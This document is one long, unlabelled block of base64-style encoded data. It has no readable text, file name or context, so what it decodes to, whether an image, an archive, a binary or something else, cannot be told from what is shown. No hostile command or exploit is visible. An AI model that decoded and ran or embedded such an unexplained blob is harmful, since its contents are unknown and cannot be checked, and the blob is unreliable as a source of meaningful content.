qPZ6aYZdilAnzFlvmyR43s9visxP3VZ7dJm5PzQ6VjfLXsbt5rcdrzRfTpNPvTs8xUZGUfz9QutZ86WrnA9f3fpTWsnwjae5n99yz4Z522fxjusr89Elp8nltQbzyyvBwzd80SwJtyTgH4L8rjRuUkM90HfFK/SL1Y2QzfY5ZTAviPneubhFL+tp5HoX7QSXvc9e1xSO4m9S/KXbCfCvCY+ams5lWAG6woiPJj58moID2q/BdywmczhPqepgB8z3nmZ/Ki9/yvbyPmQSf1O83fDg3skSerAOcjG9Bm/rvU/KSxrmVbpgBkfK3HMdAqSRJAlwrwJc9cXIDYi01JhnySCvBPt79m8r9xpbLVTOEZ8/MblEOc758OPUc43H7yi8pn6/h1n2IzKPlJVBt3cHn5VzX+4zxxgpna782nPqp+3/zv9JC+4YckgEPVc1WAJHz2vRntUhf3oTqtut2n7OdxqdwupNkiA3xJPsFmf+dK3xA+Od83B5sd+d9RqssSALPVJ9XnAsu/qn400dVCO8wU49I8R+aXPWX8COV2QJ0h1JAUol0ONp85xyRv3+O1iX05iRul1z1y8Jr93wNMmQc6ef6aT24Xy6yQKfkTQi3dZpJ3qP9wPp9dm3eimtCEWrlISOezttznVYCJTn0usXInA/xGAoiYzzxhftvn8Ntt8iEn579zfvuJ1e9VgH3VCUjivb49OCs9LV2O6uAs88kVziffUD7hQ15dp0XOF0ob8bQGF6NPF3rkMOb6bNQkjuU+v0VNKgAr4Xr7U8Wuzb2Yt+U8udP+7QXp3/b3f1DOVgCudLV/kyD1YxLAzTLAGvvJQ+zv3xbIv0kAk5WjVYAJ6JuMXcakTZ1mfveImYen7ZwcLPT+QxH/Rek16UyUo1utqJb5b7Orft5RAB7x7X+6LedAJI+tN57AyX/VZYt+UY1IKiuVdepfhLZ8SLrWzscC+7kG9SYVYK4EcK+T1pDz2xO+unijDPBBIfVPcU9/1vntI0Iqp8vtchNiK/IPPephBq4NJ4U34cP2b81C2Y8RpOyW9pG2cekeaxMvy99B0n/KpfM8XG1+9y3Sis0UU86j6mI7D58OpHfYOXhAArha/abzfKMUXupK+9kV6LOfshh4CKt+qy1xlfPs5ax238vNXkI9rvDVgaSPnOM9iVHX06vVf7/XGmvMUmhV/1945ipl/7oezSBX0+vV6c7To+Zvj7xnsy8TJN8mAbR6pFq0n/uodKXz7VTzt884Uk5BaV3kmaN3lX/LAPf4asByp4VnuuPr4N38TzhSNST/BYjaJhvHTS3DygZ3IREV+LVQGWBhteqnQXX9raLJ1kMR5CaYD18AWJps/hJl+zTOr64UqOajlervUTNpFY0psWiPavFN5gYPlDrYhTEH0n01qMhcEXap731fcQCWT2d3Ra1KWBKypUpyFGJ2TtWeCMAzJq2hR6POKCJWdyRq5Vuu1VdUeCSqWZ9FAOXJMWgeTShH7Gelai1WzKxLoGk4YxX2qxyrSo3UqrxSfagmK1YVJ+9lJqjFzF0wlajNa1zNvPd4JWKWTMK1poIGUZzliFOsimr+EjX/vbRaC1rMSVrlszEVQG2ufsdUIcopn8yejNgVpNUyyHi1wfpDrZavYn7OElgkKDeqm0il2t4s+Xt3CTVT+6/QemYxLfYl1gYQc1oy9t6XFUt1qhmyJdwJWrXm/GySU6kVDaubVlMLletZSGOcnGqwt63i7H8Vp7llpP7rwNI/piuSFt3Faa9d7RKTGltktx5XHVEzE2Z6VRNQrUarBI2WodnFgGpZ5ShXUBUpegwimvlnRXIEVMCuLpY6K3WkapjsrsX3F+m9HlXx7D3RCnSYlkau9QWrDqJi57SKLFaupFbFnaHVeg/XYyXcTpqdC6kauDHFxiD2Xkc7L+bsU4iavaaxtnGhEsF2IhaLIXWLmOlWQOyXtUmI+X+zAKi9mnE2K9XuI/YHiSX8krljT1R6Ff1HkzUpBusqVsachF/izZZmfadFJIlrixaT2lcsALOVy7jOGa2pUey9J/nmjJmz4kqsuspSsRRRNiVZemunFJPdpYmJve1O87MKypNsGkpZ8/UYKlbe1GomrSfPddqhojk1s68ktpVasfbQRSxNdPIz1b3X770xzNEk1HUqWOeq5i9Wo6NsRIAOyyZVnPZWmUV6AFjFadW5gFXTlRgrS1PVkiMjXtt+oFoDlssKxiJWxtSXpoO0TjrPqdi9zYLLVWXcm+9oqqPmFQA1alsrWbOLJzuNpaHOGeEcGDSGRWqdOoKCg7K1PBQ1K09GbV+JeFjQaG0kqa7sMMGVijPQN5tuxPRKpKosUZdCmWNyE4Aa4VXWrNeKCmq1SZepThOqtZrRVMkaG0GqlU9yjV2qY2glD1dhl+xUVW1OrQl+ngRyJIqMyS7ZSosbw6A6QmhYJyyfjHeuRHsUQZ/cGWU5lrH6VjTm0Wm1DhmtDk+OJmumXXQg1bGPgikwczjVcjwjtTzVhqzqEGyOhDVyX2b+2Zc9VhRLtsYwx2o6ndk02nY7HFjtfh24s1Yikl3aiFbrnxrTazS+9VRH7ijXitJVTjp3QgTsrmD+ix6sMF9jr5hQxVHTH7KUO4oc0ohTDTE8QFUm1Fppr2oqFZ8WtLLHPMYI//UZXruSY/wYY6YqYbdRtTPmY1Wj1TJX3ME01xi2F5Yf2Yt7dFFNK5nvV2lxylLtEsyyx+CqCiqFjKyqdGfNobApFXWx42vaJAt9ImK1ofWVZE8c9mV+yXt26FzOdNtGJsYGf8kafK2uW2EGwtZdrrWjzl+RDuQVxGz/QkIzCXs4M5vOnjDEamOcM8Q7Y5jphkS48Qk0qI1hpkcWc6kGitdpVV2NOYVsrOfaxtjvGrbmmq1ZHvOemPXhubyrZRqP6HQ8KApqY9ZYxZXtqmJGnaxMZZPLCGusijOGxZy21d77nP1XrY1hjqO4d82Cx6Jik8myhsYwsIfDWGMtrm9qZYN7gIOamxSVrblWB8jm+OR4hDWdlMVuZDk+1sfT7EHpTtsvANvMR2s10sCekqbbDkJ15tZkSpN4w6Cx0dCEVHAaWZJrtoZZeg328rEMZp46vKZiTmHONT83p1K2SqoSEs/bDwkaIw7qTDkrtkjVcWeEGEfMdBJlPHVnT/W45vBqVLM6ltWtVcsztOpZY2NYBzRoLPUYQAs3wV/GpDEJjbGKqwNYnTKKWvulaG0NocU23prdvavWRXNmc9WyxFjAbZn5DSvxhVa9RZBCyLUxLGZ5XA3Varix1hJWfTlB++ogypymM0yDaluEiGlFqooXxW1oGlNzjhJ1Dycy3pjdFBMnaNVvzqsFVexEJLNzOuu9lklWNeAjG2x0bDI9YTuecy5KV7M8O01VeZ8xakWHhHmztUDOuYPslIvEFcp3DHPMQyVWqVVN1PGDuWJHLZfD9rQORFbLNfm0xzDklsQ8jKTM2yZ7SItKIEejjj2Omh6JWrMhMtuB1oz8OvbQnWj8Y4+1mGNYVDMnFNGq+HVSBM2EJTsDmsdORGaKJafWrrIUgrk0st0ZztXMMcxpNs0UYeUpusvSTMkupGSHn64SRKhoDLMqei+tFjaJcPNB9vUxFasir6oxtu/luGiLALW8KtR8DGLTrOTt6GNM8wyAORAKHNjTnWqdmeNHDXUmvjGILnS0JsZbTIkPKU614oOckleTnOwK3aqgsoY0ZxqyVUZzNI/alWMH6Zh/WfPRI84YxhQnao8uzMdtVg+ESDTGTQYks69WfVw7eGGJkKpZVC1DX22BHvORA5n6Vn0TNk2OTkOtFnVKZ2VB1czHGiJ4llKdVZs+wiLvM3ROBG5RdROfqViJalQBx3aaY8LJwA5BF1jp9nIcyHOdOHd1VqpKGkjIHMQcSyCj9mU9U1UswxOpxfIk07IxvxhFf2NQG8O4j0U/nrWPFBXjF0ykGmEJyqY3aQfOo5oTeGPDnx1vkjn/QkIFs+a/FlSxKzxWG55YxlUtVmO1WpDfsd21uQqzCaqTuGb9IkFtRIuplQNraq/FdvF+XM2xMsNJyEVeZEU+K5odOlBFNzNSaxyn90ftuLppv/bGOhOxx3jX2gnssofPiG2vap3T9h8qWAG1agrMwzRHKK2iybKKJ7oqxMzgo6RWFbbmXVXMMayxWv7q2klEcnwUfkSPwVa7NWs1DjHOdYzW4kwV29Ta5XJ+FHsiLuNAaJQP38XApXLiwBn1mANyAVWt2umiwuPWiGq3hCX1IFFWdToUrbVwRKi9ahtP5bNj6x22eVWlcOYsdlTNHMPM36NWNMNRF6lqQGVkoGPOzMixYTHLY8KxPbkJSWHBtWjUbKbz5EgUu0ssrROsKDFEhcgk0slYrffLUxdZHdMcYjWVi+xITrzISWxZBKRlVQWxhh/N6Ty19Q9nuFJjTloRJ4AXO89rLhARljBiwm4iy4+UuOjzna6JXKy6klTNfa0aNWcMq1W14D/ZY5gzQYi4F1SshrPHMNYlW6p2fCo4CxM1hzaKgiuSNM1eO1GtBQhHp6oThAoK2pvNVnPzGu1eBjFe82tzPjT5jkVii5pQBIW52ldZIweavjVH+LmivbJp+ReqXAs6VWyjUBE6Clo7iU6tTcttv7c2hsXMvGt8cNtK/qUja2OYvULnMfOdzlypCkiusGfFWmO0Q8dW8LIxUl0UrPZimasrtbZmYv+XDaRR37UTyZLvLMDYrl/EHtEwqFpjmKxKzrIcdtKwri/iQtrLanbI9AQ0rNWa1Qs0c/Lj6iL74qWAWK0aUC3tgxHWUlotPIhWAa+C/zc/qzb1LK/3/e7du3eDVxDG1vaelct7qDweJno20nnszPUspPMK6uw9vb1kXkV8Su9qo/DMD2jA8hduXEnlGxGfMFKFXHKoTc+n24aM8TYvHv80R+1zb3aP1Yd3ZtuHR4vtdeTvRplobILq0pe1Y8ZIFoxSXE8mjWIxPmRo5g84/xHlt0StkE1VByzewoeMcRt0fsT8w8Qp1ijA821WAm3h5E9EvD5ajFtp2IakBgv1Z9d/s6X6iMd4Lf8+9Sc1AUzi+Taq/Mnu/NcMocWL7VfTnwmTYIrAs3oPz0edsd3mMc7lvcYj/W20bKfTft1xvv6EJMT6Y8qzNy+/nVZ/TaaJrclvJ8ln7bevS/9qVVjTP2/5jc3sHgOX/pL4/V18e2i+oRngABdfa8Ig/VWbrGhXlU/l8vGRznhd+4UVQJlge/uRKp8j8eoEgIM5vkDkD4FDEL9461oIsL/8BwrAodh+9/T0UO23eT+Dffi4Z/lOncofhuWvb+9JnLBhzWyC/T4clX/p2rVLOxdDQP2hDxprU6wqTxs/p1rzaTv/nTNmdFDH32mIX7q2d+O6rW0k/TkC5X9c75rbHiAfZ0BusLcD2fzG3i1k/WnF7bdy+SJa+WXrrhubLyf1UpyQf+Z8HI3y37Ny1Saq/k3n9G/zGmr7HYP4Umf7XKNM079j2X/tkHvH+rPJ9X8c2sbU+T744xHf9T74NsR3vw++HfEz3wc/A/Gz3gffgfjZ74PvRPyc98F3If6E98F3I37u++BnIr5n3fLV1P4zCy2wt+s7k7lsf3qgPZ2bvzy1IMh/Z5PH2SgEKPB9QfyEKMAc9D2dP8EKW3nzrUE8i2bN3QN+QnSueUuBD39UcP3N4e4oo/Mnwono++N6FupU+7cAtX9fuaOja6F/IuL4rTRZ90VV+dZ6sI/9PJnjE0Q+ZgUubP6oI8a6Fs4Pn3/mP/dw/MzuOjiI7j8L2ixE/HE9vRuo9d/rrn/fRNz1f7K1Gx3Vf70cuOuvBxYL9U/jl8ASd/2Hzr/UtBCWuurfPwdi/bNFymWI7+ldlKDW/3LMn7poLdV+rkBxqI72HrL9Xon9z/fBr0L8cT2LB6nlX+3WP99ExPaTmwDWCPpXLwdu/VkKawX9o/Hr2L5LUf9C55/N39e79M8/B279Ww4bsP7sXFKm6s9GzC/PbaK23ybO/qzupco/xd3+vom47c9i2Cy0f70cuNtvPWwR2p/Cs/jNVnf7h86/1LQMtrna3z8HbvvfC6dy7d9Lnj9/kGu/DcPU9u9zt59vIu7yHwunCe1XLwfu+t8GpwvtR+GhcSvE3e0XOv/M/pzhaj//HLj770bQEb9i/foVc4nz1wSa/xXTAwuo7Z9E/nsxPcCasDsVsvwNTQApgV9AjB8YPN/avSh8+ymN9i1JmE9R+AEY4PmjjhjrXjQ/tP3ZAIMiP7tzPsV/S+P5086NBrX/bef670ay/zHk7r++ibj77+mQEfpvvRy4+98ZMCz0Xxqfhay7/4bOPzSlIefqv/45EHEWN8ojvjioF4yUs36zIGD9ZndzdArsQOkLfF8QPykKUNgjvghFf741jPzSHvFlKPvzR4WRP7JH/CiMIr7WcgHxf1sDJjQDjHnxthWt8daSvLh+1zxlmLtBqsYvCJBvZSAyEWCnF29bQcRr4vzdzH/LCJy5B3xTy6B9K7DAMyuams/zGniuX57lzZtWtE75zRw0TwY4m4s/bCzR7F8GzvGwf6XQ9m8nd0CktR7sab9y1gZvbP9I/HnWTnPB/oXP/6lwvtv+lcKPXx+0toc2Ou2XK2dLwvqbVnf97UK+/RnvLCBqwgKeqP+NE/lbJ4qlXEEfMEj8xW6elH+8mzCZKw7niuHXf5XGLXAJ4hN6KTkYF9Yfof7646WIT+WS5WEjW0olwuWf2a/LcP3n08NtxXKimCyk86V0Du0eMH+84q+X4/qroVm2issZX81r/8EBzv01pvwhPdFG9B+vQOs3I53tHW1E//lKxCf7y6T1Iyb/Ko7XyfzVHD8Up/rv16D4izG+YnD59lw6bP9VIgDXou+XZMY3d2r9w516vL79sJOQJto7zCMCXwjHyxPtd3gIfFc8wH7ZJZCbr4frEd+f64xT/d8bUP0t27DylLY6S9ju/R/m2SNHvskT2l9quAluQny2P09u/5tR/rP9STJ/C8fnyPytHF8m87chvpBNkfnb8fop8x3a9HJpsC2U/ikT7fftRDg+n24Lp3/scpc7XXwykzaypbb68s0k1EkAd7n4YjI9HDb/d1p3vnL8qJEYzOWG2gLk7wZQJt8D97h4yvz5XrgX299kntz/7kPtN5JMk/mPcrxO1p/7Ob5Alv8Axw+R+QcxbxSSRiaeyOQS8cJoPKD9dkPLFPsNGdX9C5t6Nm3qHgttv9j+o4c5vpfIPwKPcPxGEi9PsN+x5PALF1Lb71FUfwsXLuqljv+PIfmJobJO3T/yOMfrZP7jHJ8k7195guPzdR0Qr/XPT/D5J8p/Aj6J+N7e5et6NtH2vz0p8BtW0Pa/PYX4gcEiuf8/jfRnIF0aLCfivpXoNX48w8mnj5/PYvmDBTL/KY6n+w/PcTx9/H4e8xl9wGfo842fvYDrL5Mq0frvtfBpju/vT5bC739j+w5f5PkSdf7xEsenh0uk8ZPdRI/5ZILKf5bjc3qRyH+O4/M6RT6zH5/n+EKJan+/IPAFkvwvwhcRv3RDZ/fME+bO7AwZ/2Dz5y9x8os5nag/X0Z8fCBdyuiJeNEoFtO5bOD+pcYowFf8+b5g/qvwVfQ9nf8afM2fbw3mvw5f3yP+G/ANf/6oYP5leHkP+IYowDfR9wOZfImm/1+Ab3H6M0q2H99GfF4vtVPt7yvI/hbJ/HfgO4hPJ3Pk8zvfRfx2IzuUzhbbkoXycIKPv5khKHH+0zAJzDcxVH9KOS1fyCUNI6WVclo6G9R+bP/c9/eI/wH8YI/4V+HVPeDZefbXcPwsNUSqfzZ/+CGqf/+Zq3/7vY74dat7VlLt94+Q/q5b3bOJqv8/xvpfzpDz/waOH6SGDar//BMkn8XPEkuT6bXpFctP2bm8M0z7/RS33wDd//oZ7r/Z8aF42b8Te+0/+DnKv8kXKfwv4BeY30H3/36J87+DXv5fcTx9/v5rzA/k45lcUs+EjB+yw3O/weXP0OOvv+Xjrx3G1p702nRPevPiNVuC9Iedv/sd+r5dL2X04khn+POHV5nv53Xix2z9gTD/Y/7fHxA/ozQDAsrPf6AA/BGVv29GqW8Gsf//CfMsgTopePlfb2Kerd8tKVn/CRF/a54E8GfEt3YtKbV6kv7zz79wfH+ptaufwP8V/op4tn63ZH7J+k+I/E+YlIe/cfzMOQyfOWd+6Pj93xHfu2rtip4NG+Nh529s/+s/sP6lc2T9+SeSn0rR7ce/OJ4+/36L40fJ/NuIn8ZCz9Mo/uOZ8G/0Z5+ZQN+08Ouv/4H/oO+npVNGtpQujZdyQ0Z2WmD8cMIUgP9y8rkEAucPTdHqm9tt+QVjIF0sFcLKj0x5B97h5HMJ9IUZf99F32/csnrTyjVtnW0h7Sfbf7sb6e/GLatXLt5G4iXnYk2mP8mhQrxOCM5r/JZEPkfhZevCwuplmQPGcHt/uTDe7t0R3fs/+PdV64USW/3A69d1zz+z+J3K82ls/YTlb0/734D47f2F3ACBZ/4bfkNIz8rePLX/TkCX0yaHNw+nlpbKlPhVBNX/9mIhT/U/m3g+RV0/bkb8vDizH5tY3wll/xsmgvlOTaf/BSQg6g87/N+C+NbunroJiOOXNAlgEsfrRH6yNBnxVvZp8asp7vIT/I9JUtSj/OHt9xRpL4/yh+f3lvbmyp/Xi8XRXCEV1v99Hfbhy183Abf/sK+0r1D+egl46c9+Qvlp/P7S/ogPUH9P//8AxGfzwz0U/W9saZEOdPPL2SAajgc4iOeJ/kcKDkb2KzfeRfa/DkF8Xk8O6WwAjuueK5ni+nHD5N1wqITjV1U+VyiF4j8gfcCbL4fhmyYDHObJl0Pzh3vzhbC8hvnxfLqtZ2Dx8uSyzKi+cVaY+d9U1P5Vfk1q6eadqd5Anvlf0xBfKCfGB4zhYlj/gZ0/PALlvzjUpmdLbXpqOJ3t8PCCvNafj/Tg8+nw/a/Vzef0Ulj+KOkoD74Qmj9aOtrNF9Oh7ed0aTriDfsCFMr86RjEJxLxTHrEiIe3/wDHIj5ZHCLGz46RjkP9f8gYJ89/jsf+U6FYoPovbXz9E+3X8VI7km90Jcj5n4H4Yv3wj/f5f8Qv6VkVX7l424Kw7cderNGJym/zvmdwRP+ncRJAlwe/IGT/V5r2h24373sGx+v+nZlefMj+ozTPlGa5ed8zOGL5I5MAZnvxPmdwxPG3oWUM5iC+P9lGbv8TUPv3j9L1Zy7mM/T4xzzEDxSp8ctOaT6n/22DRiadzGWNtjD1J7UAnIjqb7CfXv4FErd+Ec8VBkj28yQ8f0pnyftvTubtT6afsP7Hzn/GEJ8pjnTF8zT73yPyddrQzS+UFnJ8nKw/vaj+M5kx8vrTIsQPd9D7z2Lc/kUq/3lYgvjsSP0VMHf8+0ewVBj/me8TNv7D/KdliN/UvTCTGFqygmL/lyP/rTjUliu0jYSOP7H7q1Zg/zNfvwG9xt+VmE/WNyBu/kRpFeILJ9D7/2rUfoU8ff1nDcfT93+tRXxpJDNOrb91qPwmnzJG2kKPvwDrRT5fyKXawo6fABswP0C9f+5g2MjNf+j9dxOqv1E9m0rUyYH7/PAm6RQkf0ynr19vRvLHhozxYjoRev9ZQwRgC5ZfHC7l6yTg7n9bpa24/obirPVI/vs2HP8l86dKp+L2FwIXQfFTqcF6a7Vzf2G6mMShF004wOS1f7cP8ZncQDo7PUC+MH6ehuyftXO+vVC2E/G/v7F2fut0xJdLg7lCeqfOzh8Bd/5J07z9v8Mhjni7/O3J3PAMPZ+eETT/nsjeKuPN983wmAW75/+6pPvwLIEgnt1fm/Dh2RpoED8puhaS3nxr15Jg+U3RIyDlx/cH8xOjfwPDmzfXQMPEP/r9eI9FUHf9/wMG3Lyez1sqEEb+oC/fF6g/bP9f2p8PXP9il+hv9+fLwe0PMOTLt3YF158hZfaIH5aGffmjjggu/5CU3SM+J+UQv3zp+s1U/zePxp/lS3vI92fvQHxq6dwClS9I+P7JreTxu8jxm4n8uVDiePr9n2XEt5WLZH5Eqt3/V//0kpf/cB+M4vlLiur/HCeN4fh7MT7SFdfz+ZD7j5TmXmkcjd8W7z8DdvM7pZ3Y/zbo/veZKP8bl7aT+Q9h/0vP56n+81nY/8qNGe1jubG8zxK8+/4BgLM9+ERo/hzpHIH3X/332r9TkSo8n6fx50rn8nyCxp8nncfzSWr9n8/zKSp/gZh/In+hVHt/gll/RP4intep/MU8X6Dyu3i+SOUv4fkclb8U8ezYZ7G9mNGTQ6YDE+w/LpEuQ+OfwPcF85dLl+8R/2Hpw3vEXyFd4c8Hnj9QoofClXvEXyVd5c8fFZz/K6Wr94i/RroG8TOWZ5O54XR2YIt1BDiM/3otXv8XEgiW/xHpI5gXEgjiIfpnuA7z5sbNWhLB9f8XuB7vH8BwCPkTo9dJN3B8PzH//dKNiLc2bobPP7s/4yaOnzkH4Ylg+TvgZrz/o4d+f+ctUu3+uL551Pv7b5VuRXxrd/0XALjj7wdIt3G8TuRvl25H/MrF24j353dJd+D432g6g3fOBd/fAnAnin9sXNlBrv+7UP43ruwk83dzPHX/xx3SPRzfTZZ/L8fPJPP3cfwsIn8WfJTjZ5Pl38/xc8j8Axx/Apl/kOPnkvmHOF4n8w9zfILMP8LxSTL/MY5PEfmn4VGON4j8RHiM4/vJ+X8c8T3rF5P5j+P1r0xysEQ8v/EE8r/bWQLG8Ljp/I10Bfp/bP/RJ3z4vhkjgfEbdn/+J9H4w/F9M0aC5V8vPenHlzs6guU/KT3lw7d2LQmUz85/Pu3L94fI/03SMz488wWC+b/Ds778zDnB8btB6VMevJ5Pt6dzwfXP4n/P+fLB8UvmPz7vz4d6/8IL/nw5mP+09GlfPjj+yOKvL+4Bz+rvJV8+OP7YGH1J+swe8BOiL0qfRfxYvjBCXT/7HLJf42T+89LnEb+TyLP45RcQXyLL/4L0RcQn0qVkDh27DVq/YufHvoT8t3whPSK8/y1w/evLAq+XKPcP7oKvuHnS/YNfRfxomh+/+NU3r/HnNPga4hMl/v4wD96lP19HvP3iQ3MZ8sh8IXD+xM7vfAPp75JVWzYu7l0Zev1WjrwBL+P9L/U2T/rET76Jx790tr9c0E3b2T2jfvzQ2v/7vPQtT75vxkh3X6j1w29782YCYfhXsP2o8Z5HIN326wbpO548Gz27A+MfzdFnpe/68P0h+KboZ6TvefLeRyDd838dvu/Dz5wzfyS4/p6TfuDJzxgtzhjpDq6/V6RXvet/xmgxXPu/5s2bCQTz86Uf7lH7f1d63a/9R4sh2v970o/82j8Ez8bPH+9B+0+MXgBv+Lf/aDD/qvQTfH7Nsl+E+PvL0k/x/o9UxtrArefTXnup3eP/t6SfcfvPaPu/IbJa+jni7Re/sj0k5WQpnQvj//7CVX62g8nI5PLDRhj+l/j8wc583QJ47Z/7Fcr/cNYYzmXTSWH81ert3/k13j/Hbt7IDxb0ouHwOIjjdf7tNwIfJ/Ds/q/fCnwbkf+dwCM8cPxn+69/j+vfSOZGjMJ4tQ40jX8DsBg+lKcA/MGDj4fkJ0xRpT9y+WfHH2otwNNe59d/K/3JxcdD8+z+mDcRP6pnMkYpzqpR2D/k3/5/Rnwine+eG+D/iP7DX3D+B+n37/0V9//BfN0bLL32T/2N5/M0/uvS33m+nvnzlP8PzO/oSBbz4dcv2f25/+R5vZSn3b/1L7z+TbafAG/x9pctvvum4T5/+AvpbZ4vGcUSQf6/pX/z+Sfyb0v/QfzoYNFIEuNH/8Xrj7pOvr/tf9z+zTyZfwefXyrT9y+8i88fjZXyVP9/N5Y/VibxbP8kyJgvDVJ5CfGpUkeyo7Od4H8AyDxfpPGKrIh8F02+KvIn0PgGge+cTeMbZXz+rlimtv8ExPf0LO7p2bK5uG3rmg59y+rA+QOLX0Vk7v7GuDG+gpT/Jpm7f6pAub8dIs1yMye/SDz/8hWYiPjBpJ4eItqPFo4fI/KT5Em8/GGq/Mm8fBIvs/P/vPwMTf7vIMrLJ/J7yXshfs2G5cup9nNvnl9P3T+yD8dv6KHK35fjN66j8vtxPO3+OWY/9+f5VdT44wFy7U+j3NE5NkbTvwNlPP8rF48j6u9BAm+9gybc/cMTJl4KBwt8qx/s8/6HQ1x8IjSvRs6HQwXeegdNuPyrEz8lfcDFz+yeH3L/o9p8i3QYxxtlav0fLvCU+o9M7JA0gafW/1QXT6n/D8jTBJ5W/4fJR7h4Sv0fLh+J+cEx8vmrVhndP0G+v/sZOArzWfr9hUdzPP38+HQZ399YKowX/V0A9/t3JsrHyPj+xlJhvEy7//xYkddp/HEin6bd33485pN0/70N11+SXeBCy3879h+ztPdXsPn3DMzn2/P1btD1mv928HyRwjP5nTyfpMlPS12CfJ0kv0vuFvhkerg9vP85U57J83o5lQ59/yg0zZJniflPpwjyZ8uzsf6V6PvX5yD9205+f8gDcALih8oJQ08Na9vtRUhNCEB53X80F/kfiVyuVCwV9HybdZJP4wNwHvfnHSnP8+Ltg4DC6w9d61eRyQDzvfh4WPkAJyLeLn+8eg4x6P5nmDRPXoD4nm76+dOTUP3n8kXi/OtY+WSsP4N616zZZxP4RyEmC+cviffv98iWH1ytv2Qu258eaCuHeX8QTDpJXojkY75ouLeye+3f6EXyrfhrG4t/hTo/0dACsAjJH9HLmRIfPw24v+9gaTFq/8GRIvn+8yWo/QdHEiSe+f9LOb5Alr8M8adki4ae0VYa41oo/wsmAixH5S+bfFxY/4c68f/Z0goXL7w/UPN/fyB7f/NK3P82r9lIjV+tQu2vp0eM7Egnafxeje2/781Rfu23XVqD6j81ZJDff74W88X6GfAq/zqc/1yR+P7mA2E9li9uwAicv39D2oDlJ0plavtt5PkiNX62CfHDO6n31/xaOkXG5+8S8aLufwOK+/1/34TNSH6WXSBDLP8WzOcHyP7/VrkWP88Xk3rGiOdHQ+afvX9zG54/WXxpKBt2/glwqpvP+XnR7vuvZ8gfxPbbKMzrbBtMZ0vzQsln65d9PN9nJ9A3L4R8eRLAaTzf2t1jJdDa3ROw/4a9P/i7cLrI61VeD+SVKfdKcaH83cTynyGWvzt8+RsnLZV0V/m7CeWPywlX+btDl1+dApDE/g97dUqdG+y87u9LcTz9/ioDz/8S+fhIB23+1y/Iz9WZQrr7X588gPtPez3v0cv+xeRBGa9/lcnv/0vj+INeIvq/T8F2zL+P++uGEN+7ZF3dF3i44+dDcgbXf4Y+/xrG7Z9pL7eT6v8oOcvLJ78/MIfk96cHUrTx4yQpj+T3pwdy1PFnh8AXSOvvBbnA8+T1r6LAF4jx0xLH57wnLnX4ssy9/6gtq3eS7u8ZcfFdoXkp8k1p1MV3E+SfLI8JvFGm5X9c4PU8jd8p4/2v2Xg9F8gr/nymwNPs56D8IYEfJcbvzsL9d6i+AXbrT1o+G/tvpSx5/DkH25/617d67F85Vqpg/7c4SLZ/5yL5HR2LyPx5yP+c1WPkT5hNm3+dz8U/0vl8Lvz+F7UF4AK8fr5pE/n+kwtR+Uvk91/fAhfJ3Pt3iPV3jnwx4/et8j1pqv7swvwo9/qCUPwlPL+CWn+XcnzHSqr8yxDfs3Rx28bFvRsWb2oz34MRFD9qjl4Bl6P4QRv7Wbh46fI12uI1vRu2BfGTopfAhz351q6OxWt6g3h2fu0KT/64UPLZ/UlXIn6ddf6ija0i9OcKw8HlB7hqj/ir5av3gJ8Q/bB8zR7Jv0a+1rv9Qs5/2qWP+LVfiPmPMuk6+Trv9gsp/3r5esTD0uWbejdsW7dp5eJtYexXpAXgBsRP7+ycl6/VYeD8CaYA3MjzffUS8Hp/4U0839rdU0sgDH+zyOvheSV6hnwL5rtY+XMlI1liG5kLwTzArTzfhxMI4tn9B7fxvFn+agLB8m+Vbxd5ncLfId+B+JXG+Dxtevj6mxS9Vr6T5/twAmHKfxfPt3b31BII5mdJd4u8TuHvke/xKH/Y+mPnN+71Kr+dQBj9uc+z/FYCwfm/V/6oZ/nD8vfL9yP+3T+9+6eg8VPcv/wA4l9++eWXKTzbv/wg4qcNlcanEeZvbN3mIcT3sQT8Xx/mKf9hxCuv3X3zwH9XPhl+/gTwiMAbJP5j8se49YtSoVwsGSktmRseNrJhxv9H94h/TH5sD3glOg0e3yP5j8sf9x5/1+aN7OZg+TfIT/iNv2vzgfrPzp99wnv8DSXfPP+PeFlSOs4jxh+eFPgKkX8K8as2dpRWbezs3XBKasWmdID/sRtgwmSApzn50DGpsenYi5Zd9NYkSZKCys/Ojz8j8Ps0Tjj2omUvL5ClYPmNkwGeFfiGRuU4Ix9u/q02A3yK5+XzJAnC9j8l8lXpOZGXKTzA89j/LG/atK3tFLb0vNIYb1sSZvx7AfF6ZiBXSJcGh7XBYT0Z/P6Z5ikAn/bkp3km4Nb/F+UXPfk+M4Hg/vuS/JInv2x1T2+49+d8BvELFmhGqmvWrM65I51tRSNQPpu/fBbbf/PFIda/LKXg+jfgc5hf0MflIEz//zziW7sXtXYvqqUQxv58geNTrVbOw/Et0c/JX0S89eIQ698w5Y9Ez4YvcfzszvnmP1Yegv2fL8hfds+/VnpMHTz7b0Pz16SvcLxRHNQLRsonBXH+IrcAfBXx4v0DQfOnCRNXyl9D/Gi6YAyU9UIqbqUUXH+/k76O90+PlQr6oKGnjAK//6DO+cdv4P5jvfptOsX/eBnLZ+G76eHjh9B4rvxNXH/plcY4gWfx629xPKv66ST/8duIN4/f1smCuPymNj0uvSLydbLgHj+a4TuIzxqj2rpFa0PXP3t/xXcRPzxe3JFJx5O5bNZIejSEaP+kKQDfE+RbaUwPpb8NE78vfx/x7QNGqdcSns5lg+Wz99/+ALffuCm93a8Abv/rB/KriF89vnH9qlQiNM/Gv9cQv8YojeYKQ70Fw3wNrx7G//ghbv9B8+2JqXkh9Yft/3ndg++bF05/2PnjH3nwXmvX3vsX7pR/7MnroXh2//8bov6R1t9ek3+C+GLRzEDo/svuf/kpzn+5kNGI/uvPsP0dMEoUns3/fo74VC45ZBQ08zUM4eJfp0u/wPqfSw3rWQr/S/mXeP+ekRmm5v9X3PyD+v5SgF+7+VRY+wWR38i/cfH4BH798kPLb+Xf4vrTi8V5xPb/HSe/5P/yUp/5++853ly962pLGHrBKATav0Z2/p/jrRWw8PV3pvxHjrfe4OGXjFf89E8cz97f5Oe9eNmvu+Q3Rd4f9/AfGqQ/87x1A4ZPM7jnbzfCX3i+XBr0b0Sv96f9FfHzZswgr//9DfN9M/pmEPvf3zn/u6e1a0mr++IYn/pXmn4s/YPj9dau/tau/pB8Y9M/5X/i+UdABXitf/2LK3/fjL46NeD2v56S3uJ489oc78tzPNYv1Ek/kt528f3WvyH4pkkp6d+I7z1lw6q16zaR3h/3H8H+4Etvgt+//k35vzK6f0ywfkH3j8jNAP9DfFwcPUO8f+gdxLeR+XfldxGfEPjg9x/tlncjPkPmQWF90Kk/Is/6n4T4wvvgZcQ3k+tPUhTEN5F5VVERr5H5BqUB8e1kvlFpRPw0Mj9BmYD4o4k8q/8I4qeT5UeUJq79hCurAu/vA2jm6p/OT0T8jPf